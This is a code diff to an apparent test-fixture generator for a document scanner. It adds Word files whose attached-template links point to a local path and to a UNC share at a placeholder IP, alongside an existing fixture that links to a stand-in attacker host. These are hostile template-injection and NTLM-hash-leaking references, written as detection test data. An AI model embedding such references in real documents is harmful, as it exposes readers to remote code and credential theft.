@@ -807,6 +807,22 @@ def generate(out, secret_path=None, write_expect=True):
                          settings_rels=[("rId1", "attachedTemplate", "http://templates.evil.example/t.dotm", True)]))
     exp["remote_template.docx"] = {"handler": "ooxml", "alerts": ["external_link"],
                                    "entities": E(["body.person@example.com"])}
+    # Word writes the local template a document was made from as an external
+    # relationship (file:///C:/..., Normal.dotm): nothing is fetched, no alert.
+    # A UNC path is fetched over SMB (and leaks the reader's NTLM hash).
+    write_zip(os.path.join(out, "local_template.docx"),
+              docx_parts({}, embed=False,
+                         settings_rels=[("rId1", "attachedTemplate",
+                                         "file:///C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Templates\\Memo.dotm",
+                                         True),
+                                        ("rId2", "attachedTemplate", "Normal.dotm", True)]))
+    exp["local_template.docx"] = {"handler": "ooxml", "no_alerts": ["external_link"],
+                                  "entities": E(["body.person@example.com"])}
+    write_zip(os.path.join(out, "unc_template.docx"),
+              docx_parts({}, embed=False,
+                         settings_rels=[("rId1", "attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm", True)]))
+    exp["unc_template.docx"] = {"handler": "ooxml", "alerts": ["external_link"],
+                                "entities": E(["body.person@example.com"])}
     write_zip(os.path.join(out, "payroll.xlsx"), xlsx_main())
     exp["payroll.xlsx"] = {"handler": "ooxml",
                            "entities": E(XLSX_EMAILS, [SSN_NUM, SSN_NUM_E], [CARD2], True),
